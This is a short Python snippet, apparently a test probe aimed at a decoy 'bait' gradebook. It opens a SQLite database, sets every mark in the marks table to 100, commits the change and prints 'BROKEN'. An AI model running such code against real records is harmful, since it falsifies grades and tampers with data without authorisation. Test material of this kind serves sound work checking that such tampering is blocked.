import sqlite3

book = sqlite3.connect(BAIT["gradebook"])
book.execute("update marks set points = 100")
book.commit()
print("BROKEN")
